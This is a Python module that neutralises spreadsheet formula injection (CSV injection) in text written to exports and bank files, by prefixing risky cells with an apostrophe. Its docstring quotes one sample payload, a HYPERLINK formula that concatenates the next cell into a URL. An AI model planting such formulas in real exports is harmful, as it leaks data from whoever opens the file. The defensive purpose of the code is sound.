"""Cells that cannot execute: the one place a text written to a spreadsheet or a bank file is made
safe (CSV / formula injection, OWASP).

A spreadsheet program reads a cell beginning with ``= + - @`` (or a tab or carriage return, which
some turn into a new cell that then begins with one) as a formula: an applicant named
``=HYPERLINK("http://…"&B2,"点击核对")`` would be a live link, carrying the next cell, in the
reviewer's queue export. Every export's text therefore goes through ``neutral_text``, which puts an
apostrophe before such a value — the mark spreadsheets themselves use for "this is text" — and the
Excel writer also stores every text as a text cell, never letting openpyxl infer a formula. Bank
files in other layouts (CSV, fixed-width text, any encoding) call ``neutral_text`` on every text
field, the holder (户名) above all.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"
_BLANKS = " \u3000\u00a0"  # a leading space (ASCII, full-width, no-break) does not hide a formula


def neutral_text(value) -> str:
    """``value`` as text that no spreadsheet evaluates: unchanged unless it (after leading blanks)
    begins with one of FORMULA_STARTS, then with TEXT_MARK in front."""
    text = "" if value is None else str(value)
    if text.lstrip(_BLANKS).startswith(FORMULA_STARTS) or text.startswith(FORMULA_STARTS):
        return TEXT_MARK + text
    return text
